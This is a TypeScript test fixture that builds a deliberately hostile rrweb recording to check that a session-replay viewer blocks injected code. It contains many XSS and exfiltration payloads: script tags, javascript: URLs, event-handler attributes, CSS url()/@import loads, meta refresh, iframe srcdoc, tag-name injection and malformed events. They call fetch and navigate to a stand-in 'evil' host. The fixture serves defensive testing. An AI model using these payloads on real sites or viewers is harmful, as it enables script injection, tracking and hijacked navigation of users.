/**
 * A hostile recording that tries to make the viewer's browser run code, leave the page, or send requests to `evil`. It
 * puts all kinds of page content into snapshots and changes, in ways that no recorder would.
 */

type Attributes = Readonly<Record<string, unknown>>

let ids = 1

const text = (textContent: string) => ({ type: 3, id: ++ids, textContent })

const element = (tagName: string, attributes: Attributes = {}, ...childNodes: readonly object[]) => ({
  ...{ type: 2, id: ++ids, tagName, attributes, childNodes },
})

const svg = (tagName: string, attributes: Attributes = {}, ...childNodes: readonly object[]) => ({
  ...element(tagName, attributes, ...childNodes),
  isSVG: true,
})

/** Sets `pwned` in every reachable window, and sends a request to `evil`. */
const codeOf = (evil: string) =>
  `for (const one of [self, parent, top]) try { one.pwned = 1 } catch {} ; fetch('${evil}/fetch'); top.location = '${evil}/top'`

/** Elements that would run code, load something, or leave. */
function elementsOf(evil: string): object[] {
  const code = codeOf(evil)
  const run = `javascript:${code}`
  const page = `<script>${code}</script><link rel=preconnect href=${evil}><img src=${evil}/srcdoc onerror="${code}">`
  const style = [
    `@import url(${evil}/import.css); @import '${evil}/import2.css';`,
    `@font-face { font-family: evil; src: url(${evil}/font.woff2) }`,
    `body { background: url(${evil}/background); font-family: evil; cursor: url(${evil}/cursor), auto }`,
    `p::before { content: url(${evil}/content) } p { mask: url(${evil}/mask.svg#a); filter: url(${evil}/filter.svg#a) }`,
    `</style><script>${code}</script>`,
  ].join('\n')
  const links = [
    ...['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon'],
  ]
  return [
    ...links.map((rel) => element('link', { rel, href: `${evil}/${rel}`, as: 'image', crossorigin: '' })),
    element('base', { href: `${evil}/`, target: '_top' }),
    ...['refresh', 'Refresh', 'set-cookie', 'x-dns-prefetch-control', 'Content-Security-Policy', 'delegate-ch'].map(
      (name) => element('meta', { 'http-equiv': name, content: `0; url=${evil}/refresh` }),
    ),
    element('style', {}, { ...text(style), isStyle: true }),
    element('style', { _cssText: style }),
    element('link', { rel: 'stylesheet', href: `${evil}/linked.css`, _cssText: style }),
    element('script', {}, text(code)),
    element('SCRIPT', { src: `${evil}/script.js` }),
    element('script', { type: 'speculationrules' }, text(`{"prefetch":[{"source":"list","urls":["${evil}/rule"]}]}`)),
    svg('svg', { onload: code }, svg('script', {}, text(code)), svg('script', { 'xlink:href': `${evil}/svg.js` })),
    svg('svg', {}, svg('image', { href: `${evil}/svg-image` }), svg('use', { 'xlink:href': `${evil}/use.svg#a` })),
    svg('svg', {}, svg('a', { 'xlink:href': run }, svg('text', {}, text('x'))), svg('feImage', { href: `${evil}/fe` })),
    svg('svg', {}, svg('foreignObject', {}, element('img', { src: `${evil}/foreign`, onerror: code }))),
    svg('svg', {}, svg('set', { attributeName: 'href', to: run, onbegin: code }), svg('animate', { onbegin: code })),
    element('img', { src: `${evil}/img`, onerror: code, attributionsrc: `${evil}/attribution` }),
    element('img', { srcset: `${evil}/srcset 1x`, rr_dataURL: `${evil}/data-url` }),
    element('picture', {}, element('source', { srcset: `${evil}/picture` }), element('img', {})),
    element('input', { type: 'image', src: `${evil}/input`, autofocus: true, onfocus: code }),
    element('video', { src: `${evil}/video`, poster: `${evil}/poster`, autoplay: true, rr_mediaState: 'played' }),
    element(
      'audio',
      { src: `${evil}/audio`, autoplay: true },
      element('track', { src: `${evil}/track`, default: true }),
    ),
    element('iframe', { src: `${evil}/frame` }),
    element('iframe', { src: run }),
    element('iframe', { srcdoc: page }),
    element('iframe', { SRCDOC: page, sandbox: 'allow-scripts allow-top-navigation' }),
    element('frame', { src: `${evil}/old-frame` }),
    element('fencedframe', { src: `${evil}/fenced` }),
    element('object', { data: `${evil}/object` }),
    element('object', { data: run }),
    element('embed', { src: `${evil}/embed` }),
    element('applet', { code: `${evil}/applet` }),
    element('table', { background: `${evil}/table` }, element('tbody', {}, element('tr', {}))),
    element('p', { style: `background: url(${evil}/inline)`, onclick: code }, text('Words')),
    element('details', { open: true, ontoggle: code }, element('summary', {}, text('More'))),
    element('marquee', { onstart: code }),
    element('a', { href: run, target: '_top', ping: `${evil}/ping`, id: 'bait', style: cover }, text('A link')),
    element('form', { action: `${evil}/form`, target: '_top', method: 'post' }, element('button', {}, text('Send'))),
    element('button', { formaction: run, form: 'f' }, text('Run')),
    element('textarea', { value: `</textarea><script>${code}</script>` }),
    element('template', {}, element('script', {}, text(code))),
    element('noscript', {}, element('img', { src: `${evil}/noscript` })),
    { ...element('evil-element', { onconnected: code }), isCustom: true },
    { ...element('font-face', {}), isCustom: true },
    element('x><script>', { 'a"><script>': code, '': code }),
    element('dialog', { open: true, rr_open_mode: 'modal', oncancel: code }),
    element('body', { onload: code, background: `${evil}/body` }),
    { ...element('div', {}, { ...element('img', { src: `${evil}/shadow` }), isShadow: true }), isShadowHost: true },
  ]
}

const cover = 'position: fixed; inset: 0; z-index: 9'

/** Consecutive rrweb events from `start` on. */
export function hostileRecording(evil: string, start: number): object[] {
  ids = 1
  const code = codeOf(evil)
  const elements = elementsOf(evil)
  const html = element('html', { manifest: `${evil}/manifest` }, element('head'), element('body', {}, ...elements))
  const [, body] = html.childNodes as [{ id: number }, { id: number }]
  const node = { type: 0, id: 1, childNodes: [{ type: 1, id: ++ids, name: 'html', publicId: '', systemId: '' }, html] }
  const idOf = (tagName: string) =>
    (elements as { tagName: string; id: number }[]).find((one) => one.tagName === tagName)!.id
  const changed = (tagName: string, attributes: Attributes) => ({ id: idOf(tagName), attributes })
  const rule = { rule: `@import url(${evil}/rule.css)`, index: 0 }
  const painted = { rule: `p { background: url(${evil}/rule) }`, index: 0 }
  const changes: readonly object[] = [
    {
      ...{ source: 0, removes: [], texts: [], attributes: [] },
      adds: elementsOf(evil).map((one) => ({ parentId: body.id, nextId: null, node: one })),
    },
    {
      ...{ source: 0, removes: [], texts: [], adds: [] },
      attributes: [
        changed('iframe', { src: `${evil}/changed`, srcdoc: `<script>${code}</script>`, onload: code }),
        changed('link', { rel: 'preconnect', href: `${evil}/changed-link` }),
        changed('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/changed-meta` }),
        changed('base', { href: `${evil}/changed-base` }),
        changed('img', { src: `${evil}/changed-img`, onerror: code, srcset: `${evil}/changed-srcset` }),
        changed('script', { src: `${evil}/changed-script` }),
        changed('p', { style: { 'background-image': `url(${evil}/changed-style)` }, onclick: code }),
        changed('a', { href: `javascript:${code}`, download: 'x', ping: `${evil}/ping` }),
      ],
    },
    { source: 2, type: 2, id: idOf('a'), x: 5, y: 5 },
    { source: 2, type: 5, id: idOf('input') },
    { source: 2, type: 4, id: idOf('a'), x: 5, y: 5 },
    { source: 1, positions: [{ x: 5, y: 5, id: idOf('a'), timeOffset: 0 }] },
    { source: 7, type: 0, id: idOf('video'), currentTime: 0 },
    { source: 8, id: idOf('style'), adds: [rule, painted] },
    {
      ...{ source: 9, id: idOf('p'), type: 0, property: 'drawImage' },
      args: [{ rr_type: 'HTMLImageElement', src: `${evil}/canvas` }],
    },
    { source: 10, family: 'other', fontSource: `url(${evil}/loaded-font)`, buffer: false },
    { source: 13, id: idOf('style'), index: [0], set: { property: 'background', value: `url(${evil}/declared)` } },
    { source: 15, id: 1, styleIds: [9], styles: [{ styleId: 9, rules: [painted] }] },
    { source: 5, id: idOf('textarea'), text: `<script>${code}</script>`, isChecked: false },
    // No recorder sends these shapes.
    { source: 0, adds: [null, { parentId: body.id, node: { type: 2 } }], removes: 7, texts: {}, attributes: 'x' },
    { source: 1, positions: [] },
    { source: 1, positions: 'x' },
    { source: 2, type: 99, id: 1 },
    { source: 4, width: -1, height: 1e9 },
    { source: '__proto__' },
  ]
  return [
    { type: 4, data: { href: `javascript:${code}`, width: 1280, height: 720 } },
    { type: 2, data: { node, initialOffset: { left: 0, top: 0 } } },
    { type: 5, data: { tag: 'url-change', payload: { url: `<img src=x onerror="${code}">` } } },
    ...changes.map((data) => ({ type: 3, data })),
    { type: 6, data: { plugin: 'rrweb/console@1', payload: { level: 'log', payload: [code], trace: [] } } },
    { type: 4, data: { href: 'https://example.com/last', width: 800, height: 600 } },
  ].map((event, place) => ({ ...event, timestamp: start + place * 100 }))
}
